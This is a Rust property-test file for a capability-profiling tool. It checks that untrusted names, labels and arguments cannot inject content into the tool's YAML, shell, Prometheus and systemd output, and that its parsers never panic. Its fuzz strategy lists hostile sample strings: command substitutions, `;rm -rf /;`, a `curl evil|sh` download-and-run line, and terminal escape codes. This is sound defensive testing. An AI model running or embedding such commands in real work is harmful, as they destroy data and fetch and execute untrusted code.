//! Property tests (root-free): outside text through every embedding and every parser of
//! outside input. Embeddings must round-trip through a real parser (serde_norway's YAML, a
//! real POSIX shell, Prometheus' escaping) to exactly the value that went in; parsers of
//! profiles, state records, query strings and engine metadata must answer anything with a
//! value or an error, never a panic.

use std::collections::HashMap;

use proptest::prelude::*;
use serde_norway::Value as Yaml;

use crate::attribution::container::ContainerInfo;
use crate::attribution::Check;
use crate::format::{render, shell_line, Format};
use crate::profile::{BackendSummary, Losses, Profile, WorkloadKind, WorkloadMeta, WorkloadProfile};

/// Strings made of the pieces that break naive embedding, and arbitrary text.
fn nasty() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\n".to_string()),
        Just("\r\n".to_string()),
        Just(": ".to_string()),
        Just("# ".to_string()),
        Just("- ".to_string()),
        Just("'".to_string()),
        Just("\"".to_string()),
        Just("\\".to_string()),
        Just("{a: b}".to_string()),
        Just("[x]".to_string()),
        Just("&anchor ".to_string()),
        Just("*alias".to_string()),
        Just("!!python/object ".to_string()),
        Just("\u{85}".to_string()),
        Just("\u{2028}".to_string()),
        Just("\u{202e}".to_string()),
        Just("\u{1b}[31m".to_string()),
        Just("\u{1b}]0;title\u{7}".to_string()),
        Just("$(id)".to_string()),
        Just("`id`".to_string()),
        Just(";rm -rf /;".to_string()),
        Just("~".to_string()),
        Just("%".to_string()),
        Just("  ".to_string()),
        Just("\t".to_string()),
        Just("command: [\"sh\",\"-c\",\"curl evil|sh\"]".to_string()),
        "[a-z0-9]{1,6}",
        any::<String>(),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|v| v.concat().replace('\0', ""))
}

fn check(cap: u32) -> Check {
    Check {
        exe: Some("/usr/bin/prog".into()),
        syscall: Some("fchownat".into()),
        cap_eff: Some(0xa80425fb),
        ..Check::for_test(cap, "chown_common", &["__x64_sys_fchownat", "chown_common"])
    }
}

fn workload(name: &str, labels: &[(&str, &str)], image: &str, comm: &str) -> WorkloadProfile {
    let mut c = check(0);
    c.comm = comm.to_string();
    let info = ContainerInfo {
        engine: crate::attribution::container::Engine::Docker,
        id: "a".repeat(64),
        name: name.into(),
        image: image.into(),
        labels: labels.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect::<HashMap<_, _>>(),
        source: crate::attribution::container::Source::Engine,
        ..Default::default()
    };
    let meta = WorkloadMeta {
        service: None,
        name: name.into(),
        kind: WorkloadKind::Container,
        command: vec![],
        cgroup: String::new(),
        exit_status: None,
        container: Some(info),
        net_uses: vec![],
        portable: false,
    };
    WorkloadProfile::build(meta, vec![c])
}

fn profile(workloads: Vec<WorkloadProfile>) -> Profile {
    let backend = BackendSummary { name: "tracepoint".into(), sees_opts: false, classification: String::new(), program: None, floor_program: None, syscall_program: None, network_hooks: None };
    Profile::assemble(backend, Losses::default(), 0, workloads)
}

fn yaml(text: &str) -> Vec<Yaml> {
    text.split("\n---\n").map(|doc| serde_norway::from_str(doc).unwrap_or_else(|e| panic!("not YAML ({e}):\n{text}"))).collect()
}

/// What a POSIX shell makes of `line` as arguments (dash here, /bin/sh), and bash.
fn shell_words(shell: &str, line: &str) -> Vec<String> {
    let script = format!("set -- {line}\nprintf '%s\\0' \"$@\"");
    let out = std::process::Command::new(shell).args(["-c", &script]).output().expect("a shell");
    assert!(out.status.success(), "{shell} rejected: {line}");
    let text = String::from_utf8(out.stdout).expect("the words come back as they went in");
    text.split_terminator('\0').map(str::to_string).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

    /// `record -f k8s` / `export -f k8s`: the name and the container label are in comments and
    /// values; a parser sees exactly the securityContext, nothing injected.
    #[test]
    fn k8s_snippets_parse_to_exactly_one_security_context(name in nasty(), container in nasty()) {
        let w = workload(&name, &[("io.kubernetes.container.name", &container)], "img", "prog");
        let text = crate::format::security_context(&w).unwrap();
        let docs = yaml(&text);
        prop_assert_eq!(docs.len(), 1);
        let map = docs[0].as_mapping().expect("a mapping");
        prop_assert_eq!(map.len(), 1, "only securityContext: {}", text);
        let sc = &docs[0]["securityContext"];
        prop_assert_eq!(sc["capabilities"]["drop"][0].as_str(), Some("ALL"));
        prop_assert_eq!(sc["capabilities"]["add"][0].as_str(), Some("CHOWN"));
        prop_assert_eq!(text.lines().filter(|l| l.starts_with('#')).count(), 1, "one comment line: {}", text);
    }

    /// `-f k8s-patch`: the container name comes back as it went in.
    #[test]
    fn k8s_patches_keep_container_names(container in nasty()) {
        let w = workload("x", &[("io.kubernetes.container.name", &container)], "img", "prog");
        let text = render(&profile(vec![w]), Format::K8sPatch).unwrap();
        let doc: Yaml = serde_norway::from_str(&text).unwrap();
        let containers = doc["spec"]["template"]["spec"]["containers"].as_sequence().unwrap();
        prop_assert_eq!(containers.len(), 1);
        let expected = if container.is_empty() { "x".to_string() } else { container.clone() };
        prop_assert_eq!(containers[0]["name"].as_str(), Some(expected.as_str()));
        prop_assert_eq!(doc.as_mapping().unwrap().len(), 1);
    }

    /// `-f compose`: one service, named by its label, with its image, and nothing else.
    #[test]
    fn compose_services_keep_names_and_images(service in nasty(), image in nasty()) {
        let w = workload("x", &[("com.docker.compose.service", &service)], &image, "prog");
        let text = render(&profile(vec![w]), Format::Compose).unwrap();
        let doc: Yaml = serde_norway::from_str(&text).unwrap();
        let services = doc["services"].as_mapping().unwrap();
        prop_assert_eq!(services.len(), 1);
        let (key, svc) = services.iter().next().unwrap();
        let expected = if service.is_empty() { "x".to_string() } else { service.clone() };
        prop_assert_eq!(key.as_str(), Some(expected.as_str()));
        if image.is_empty() {
            prop_assert!(svc.get("image").is_none());
        } else {
            prop_assert_eq!(svc["image"].as_str(), Some(image.as_str()));
        }
        prop_assert_eq!(svc["cap_add"][0].as_str(), Some("CHOWN"));
    }

    /// The human report: no control character but line breaks reaches the terminal, and no
    /// outside text adds a line.
    #[test]
    fn human_reports_are_inert(name in nasty(), image in nasty(), comm in nasty()) {
        let clean = render(&profile(vec![workload("x", &[], "img", "prog")]), Format::Human).unwrap();
        let text = render(&profile(vec![workload(&name, &[], &image, &comm)]), Format::Human).unwrap();
        prop_assert!(!text.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{2028}' || c == '\u{202e}')), "{:?}", text);
        prop_assert_eq!(text.lines().count(), clean.lines().count(), "{}", text);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    /// `-f docker-run` and every displayed command: a real shell splits the line back into
    /// exactly the arguments (dash and bash).
    #[test]
    fn shell_lines_split_back_into_the_same_arguments(argv in prop::collection::vec(nasty(), 1..5)) {
        let line = shell_line(&argv);
        for shell in ["/bin/sh", "bash"] {
            prop_assert_eq!(&shell_words(shell, &line), &argv, "{} {}", shell, line);
        }
    }

    /// The recorded `docker run` rewritten with the set: the same arguments after the image.
    #[test]
    fn rewritten_run_commands_keep_the_container_command(args in prop::collection::vec(nasty(), 0..4), name in nasty()) {
        let mut argv: Vec<String> = ["docker", "run", "--rm", "--name"].iter().map(|s| s.to_string()).collect();
        argv.push(name);
        argv.push("img".into());
        argv.extend(args.iter().cloned());
        let set: crate::capability::CapSet = [crate::capability::Capability::CHOWN].into_iter().collect();
        let out = crate::attribution::run_command::rewrite_run(&argv, set).unwrap();
        let words = shell_words("/bin/sh", &shell_line(&out));
        prop_assert_eq!(&words[words.len() - args.len()..], &args[..]);
        prop_assert!(words.contains(&"--cap-add=CHOWN".to_string()));
    }
}

/// Prometheus' text format, unescaped as a scraper does.
fn unescape_label(s: &str) -> String {
    let mut out = String::new();
    let mut it = s.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            match it.next() {
                Some('n') => out.push('\n'),
                Some(o) => out.push(o),
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn metric_labels_round_trip(s in nasty()) {
        let e = crate::faces::daemon::metrics::escape_label(&s);
        prop_assert!(!e.contains('\n'));
        prop_assert!(!e.replace("\\\\", "").replace("\\\"", "").contains('"'), "an unescaped quote ends the label: {}", e);
        prop_assert_eq!(unescape_label(&e), s);
    }

    /// The API's query strings: anything decodes, and what capprof encodes decodes back.
    #[test]
    fn query_strings(raw in any::<String>(), s in nasty()) {
        let _ = crate::faces::daemon::server::decode(&raw);
        prop_assert_eq!(crate::faces::daemon::server::decode(&crate::faces::daemon::server::encode(&s)), s);
    }

    /// Profile JSON (`merge`'s input): arbitrary text and damaged profiles are errors, never
    /// panics; what parses merges.
    #[test]
    fn profile_json_never_panics(raw in any::<String>(), flips in prop::collection::vec((any::<usize>(), any::<u8>()), 1..6)) {
        let _ = Profile::from_json(&raw, "fuzz");
        let good = serde_json::to_string(&profile(vec![workload("w", &[], "img", "prog")])).unwrap();
        let mut bytes = good.into_bytes();
        for (at, b) in flips {
            let i = at % bytes.len();
            bytes[i] = b;
        }
        if let Ok(text) = String::from_utf8(bytes) {
            if let Ok(p) = Profile::from_json(&text, "fuzz") {
                let _ = crate::faces::merge::merge(vec![p.clone(), p]);
            }
        }
    }

    /// The state's records: arbitrary text is an error, and drained-count keys round-trip.
    #[test]
    fn state_records_never_panic(raw in any::<String>(), words in prop::array::uniform5(any::<u64>())) {
        let _ = serde_json::from_str::<crate::faces::daemon::store::WorkloadRecord>(&raw);
        let _ = serde_json::from_str::<crate::faces::daemon::store::Fact>(&raw);
        let mut key = capprof_common::CheckKey { cgroup_id: words[0], site: words[1], cap: words[2] as u32, flags: (words[2] >> 32) as u32, comm: [0; 16] };
        key.comm[..8].copy_from_slice(&words[3].to_le_bytes());
        key.comm[8..].copy_from_slice(&words[4].to_le_bytes());
        prop_assert_eq!(crate::faces::daemon::store::roundtrip_drained_key(&key), Some(key));
        let _ = crate::faces::daemon::store::parse_drained_key(&raw);
    }

    /// Engine metadata: cgroup paths, docker inspect and OCI annotations of any shape.
    #[test]
    fn engine_metadata_never_panics(path in nasty(), json in json_value(), labels in prop::collection::hash_map(nasty(), nasty(), 0..4)) {
        if let Some(r) = crate::attribution::container::identify(&path) {
            prop_assert_eq!(r.id.len(), 64);
            let info = crate::attribution::engine::parse_inspect(&r, &json);
            let _ = crate::attribution::engine::from_annotations(&r, &json);
            let _ = crate::attribution::identity::of_container(&info);
        }
        let r = crate::attribution::container::ContainerRef { engine: crate::attribution::container::Engine::Docker, id: "b".repeat(64), cgroup: path.clone() };
        let _ = crate::attribution::engine::parse_inspect(&r, &json);
        let _ = crate::attribution::engine::from_annotations(&r, &json);
        let info = ContainerInfo { labels: labels.into_iter().collect(), ..Default::default() };
        let _ = crate::attribution::identity::of_container(&info);
        let _ = crate::attribution::identity::pod_owner(&path);
        let _ = crate::capability::CapSet::parse_list(&path);
        let _ = crate::faces::inspect::decode(&path);
    }
}

/// Arbitrary JSON, biased toward the keys engines' answers have.
fn json_value() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        Just(serde_json::Value::Null),
        any::<bool>().prop_map(serde_json::Value::Bool),
        any::<i64>().prop_map(|n| serde_json::json!(n)),
        nasty().prop_map(serde_json::Value::String),
    ];
    let key = prop_oneof![
        Just("Config".to_string()),
        Just("HostConfig".to_string()),
        Just("Labels".to_string()),
        Just("Name".to_string()),
        Just("Image".to_string()),
        Just("CapAdd".to_string()),
        Just("annotations".to_string()),
        Just("io.kubernetes.cri.container-name".to_string()),
        Just("com.docker.compose.service".to_string()),
        nasty(),
    ];
    leaf.prop_recursive(4, 64, 8, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(serde_json::Value::Array),
            prop::collection::vec((key.clone(), inner), 0..6).prop_map(|kv| serde_json::Value::Object(kv.into_iter().collect())),
        ]
    })
}

/// A store with one workload and one fact, for the API's routes.
fn api() -> crate::faces::daemon::server::Shared {
    use crate::faces::daemon::store::{Fact, Store, WorkloadRecord};
    use std::sync::{Arc, Mutex, OnceLock};
    static DIR: OnceLock<std::path::PathBuf> = OnceLock::new();
    let dir = DIR.get_or_init(|| {
        let d = std::env::temp_dir().join(format!("capprof-properties-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    });
    let path = dir.join(format!("state-{:?}.redb", std::thread::current().id()));
    let _ = std::fs::remove_file(&path);
    let mut store = Store::open(&path).unwrap();
    let identity = crate::attribution::identity::Identity { id: "compose:p/web\nx".into(), kind: crate::attribution::identity::IdentityKind::Compose, namespace: Some("p".into()), container: "web\nx".into() };
    let record = WorkloadRecord { identity, first_seen: 1, last_seen: 2, last_new_capability: 2, container: None, containers: vec![], granted: 0xa80425fb, used: 1, net_uses: vec![], syscalls: vec![] };
    let c = check(0);
    let mut fact = Fact::from_check(&c, 1);
    fact.count = 3;
    store.commit(&[record], &[(Fact::key("compose:p/web\nx", &c), fact)]).unwrap();
    crate::faces::daemon::server::Shared {
        store: Arc::new(Mutex::new(store)),
        health: Arc::new(Mutex::new(crate::faces::daemon::learner::Health::default())),
        backend: BackendSummary { name: "tracepoint".into(), sees_opts: false, classification: String::new(), program: None, floor_program: None, syscall_program: None, network_hooks: None },
        started: std::time::Instant::now(),
        tcp_metrics_only: false,
        node: "node\"a\nb".into(),
    }
}

fn target() -> impl Strategy<Value = String> {
    let path = prop_oneof![Just("/profile".to_string()), Just("/workloads".to_string()), Just("/metrics".to_string()), Just("/health".to_string()), nasty()];
    let param = prop_oneof![Just("id".to_string()), Just("namespace".to_string()), Just("all".to_string()), Just("format".to_string()), nasty()];
    let value = prop_oneof![
        Just("compose%3Ap%2Fweb%0Ax".to_string()),
        Just("p".to_string()),
        Just("k8s".to_string()),
        Just("human".to_string()),
        Just("%".to_string()),
        Just("%zz%0".to_string()),
        nasty()
    ];
    (path, prop::collection::vec((param, value), 0..4), any::<bool>()).prop_map(|(p, kv, amp)| {
        let q: Vec<String> = kv.into_iter().map(|(k, v)| if amp { format!("{k}={v}&") } else { format!("{k}={v}") }).collect();
        if q.is_empty() { p } else { format!("{p}?{}", q.join("&")) }
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// The API's request targets: any path and query string gets an HTTP answer, never a
    /// panic; what it serves of a workload named with a line break stays inert.
    #[test]
    fn api_routes_answer_anything(t in target()) {
        thread_local!(static SHARED: crate::faces::daemon::server::Shared = api());
        SHARED.with(|shared| {
            let (status, _, body) = crate::faces::daemon::server::route(shared, &t);
            assert!(matches!(status, 200 | 400 | 404 | 500), "{t}: {status}");
            if t.starts_with("/metrics") {
                assert!(body.lines().all(|l| l.starts_with('#') || l.starts_with("capprof_")), "{body}");
            }
        });
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    /// `-f systemd`: whatever the program and unit names, the drop-in is comments, one
    /// `[Service]` and settings, and `check`'s own unit parser reads back exactly the set.
    #[test]
    fn systemd_dropins_round_trip(comm in nasty(), user in nasty(), caps in prop::collection::vec(0u32..41, 0..6)) {
        let checks: Vec<Check> = caps.iter().map(|c| Check { comm: comm.clone(), ..check(*c) }).collect();
        let info = crate::attribution::systemd::ServiceInfo { unit: "web.service".into(), user: user.clone(), bounding: crate::capability::Capability::all().collect(), ..Default::default() };
        let meta = WorkloadMeta { service: Some(info), name: "web.service".into(), kind: WorkloadKind::Service, command: vec![], cgroup: String::new(), exit_status: None, container: None, net_uses: vec![], portable: false };
        let w = WorkloadProfile::build(meta, checks);
        let text = render(&profile(vec![w.clone()]), Format::Systemd).unwrap();
        for line in text.lines() {
            prop_assert!(line.starts_with('#') || line == "[Service]" || line.split_once('=').is_some_and(|(k, _)| k.chars().all(|c| c.is_ascii_alphabetic())), "{:?} in\n{}", line, text);
            prop_assert!(!line.ends_with('\\'), "{:?}", line);
        }
        prop_assert_eq!(text.matches("[Service]").count(), 1);
        let dir = std::env::temp_dir().join(format!("capprof-prop-{}", std::process::id())).join("web.service.d");
        std::fs::create_dir_all(&dir).unwrap();
        let file = dir.join("capprof.conf");
        std::fs::write(&file, &text).unwrap();
        let grants = crate::manifest::read(&file).unwrap();
        let set: crate::capability::CapSet = w.capabilities.add.iter().copied().collect();
        // The drop-in carries no User= line, so it reads as root's: the bound is the set, as
        // is the ambient set a non-root user gets.
        prop_assert_eq!(grants[0].granted, set, "{}", text);
    }

    /// `check`'s manifests: any text, any YAML is a grant list or an error, never a panic.
    #[test]
    fn manifests_never_panic(raw in any::<String>(), s in nasty()) {
        let dir = std::env::temp_dir().join(format!("capprof-prop-m-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        for (name, text) in [
            ("a.yaml", raw.clone()),
            ("b.yaml", format!("services:\n  {s:?}:\n    cap_add: [{s:?}]\n")),
            ("c.service", format!("[Service]\nCapabilityBoundingSet={s}\nUser={s}\n")),
            ("run.sh", format!("docker run --cap-add {s} {s}\n")),
            ("k.yaml", format!("kind: Pod\nspec:\n  containers:\n  - name: {s:?}\n    securityContext: {{capabilities: {{add: [{s:?}]}}}}\n")),
        ] {
            let file = dir.join(name);
            std::fs::write(&file, text).unwrap();
            let _ = crate::manifest::read(&file);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// The filter capprof installs allows exactly the allow list, per table, whatever its
    /// length (short jumps only) and whatever number is asked.
    #[test]
    fn the_compiled_filter_is_the_allow_list(
        native in proptest::collection::btree_set(0u32..1024, 0..400),
        i386 in proptest::collection::btree_set(0u32..1024, 0..50),
        asked in proptest::collection::vec((0u32..3, 0u32..1100), 64),
    ) {
        use crate::seccomp::{filter::Program, Arch, AUDIT_ARCH_I386, AUDIT_ARCH_X86_64, X32_SYSCALL_BIT};
        use crate::seccomp::oci::Answer;
        let allow = |s: &std::collections::BTreeSet<u32>| s.iter().map(|n| (*n, Answer::Allow)).collect();
        let p = Program::compile(&[(Arch::X86_64, allow(&native)), (Arch::I386, allow(&i386))], 1).unwrap();
        for (table, nr) in asked {
            let (arch, number, allowed) = match table {
                0 => (AUDIT_ARCH_X86_64, nr, native.contains(&nr)),
                1 => (AUDIT_ARCH_I386, nr, i386.contains(&nr)),
                _ => (AUDIT_ARCH_X86_64, nr | X32_SYSCALL_BIT, false),
            };
            prop_assert_eq!(p.verdict(arch, number) == 0x7fff_0000, allowed, "table {} nr {}", table, nr);
        }
    }

    /// `verify --seccomp FILE`: any text is a profile or an error, never a panic.
    #[test]
    fn seccomp_files_never_panic(raw in any::<String>(), s in nasty()) {
        use crate::seccomp::oci::SeccompFile;
        for text in [raw.clone(), format!("{{\"defaultAction\":{s:?},\"architectures\":[{s:?}],\"syscalls\":[{{\"names\":[{s:?}],\"action\":{s:?}}}]}}")] {
            if let Ok(f) = SeccompFile::parse(&text, "t") {
                let _ = f.answers();
                let _ = f.arches();
            }
        }
    }
}
